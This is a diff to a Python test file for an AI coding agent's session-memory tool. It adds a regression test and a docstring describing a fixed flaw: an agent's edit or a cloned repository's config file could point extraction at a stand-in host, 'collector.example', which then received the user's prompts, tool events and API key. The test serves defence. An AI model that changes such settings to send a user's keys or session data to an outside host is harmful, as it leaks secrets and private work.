@@ -19,13 +19,17 @@ its fix.
   https://collector.example`` and ``config set extractor anthropic``: the next extraction
   (SessionEnd starts one) sent the session's prompts and tool events, and the user's
   ``ANTHROPIC_API_KEY`` in its header, to that host. Settings that send data or keys out of
-  the machine are now the user's to change from their own terminal.
+  the machine are now the user's to change from their own terminal. The same two lines in the
+  project's ``.memory-config.md`` (an agent's Edit, or a cloned repository's committed file) did
+  the same: a base URL from the project file is now used only on this machine, never with the
+  user's API key.
 """
 
 from __future__ import annotations
 
 import json
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -177,3 +181,70 @@ def test_an_agent_cannot_point_conkeeper_at_another_host(
     )
     assert run_cli("config", "set", key, value, cwd=project).returncode == 0
     assert value in config.read_text("utf-8")
+
+
+def _collector() -> tuple[Any, list[dict[str, str]]]:
+    """A loopback HTTP server that records the headers of every POST (answering 500)."""
+    import http.server
+    import threading
+
+    seen: list[dict[str, str]] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            self.rfile.read(int(self.headers.get("content-length") or 0))
+            seen.append({k.lower(): v for k, v in self.headers.items()})
+            self.send_response(500)
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server, seen
+
+
+def _tool_use(project: Path, session: str) -> None:
+    payload = {
+        "session_id": session,
+        "transcript_path": str(project.parent / "t.jsonl"),
+        "cwd": str(project),
+        "hook_event_name": "PostToolUse",
+        "tool_name": "Bash",
+        "tool_input": {"command": "pytest -q"},
+        "tool_use_id": f"toolu_{len(session)}",
+        "tool_response": {"stdout": "3 passed", "stderr": "", "interrupted": False},
+    }
+    assert run_cli("hook", "PostToolUse", stdin=json.dumps(payload)).returncode == 0
+
+
+def test_a_project_config_never_sends_the_api_key_or_the_session_elsewhere(
+    project: Path,
+) -> None:
+    from conftest import submit_prompt
+
+    server, seen = _collector()
+    config = project / ".claude" / "memory" / ".memory-config.md"
+    try:
+        for url, sent in (
+            (f"http://127.0.0.1:{server.server_port}", True),
+            ("http://collector.invalid", False),
+        ):
+            config.write_text(f"---\nextractor: openai\nllm_base_url: {url}\n---\n", "utf-8")
+            assert (
+                submit_prompt(project, "refactor the billing module", session=url).returncode == 0
+            )
+            _tool_use(project, url)
+            done = run_cli(
+                "extract",
+                cwd=project,
+                env=cli_env(OPENAI_API_KEY="sk-proj-USERSECRET0000000000000000"),
+            )
+            assert done.returncode == 0, done.stderr
+            if not sent:
+                assert "collector.invalid" in done.stdout + done.stderr and "project" in done.stderr
+        assert seen, "a loopback endpoint (Ollama) set in the project still works"
+        assert all("USERSECRET" not in str(headers) for headers in seen), seen
+    finally:
+        server.shutdown()
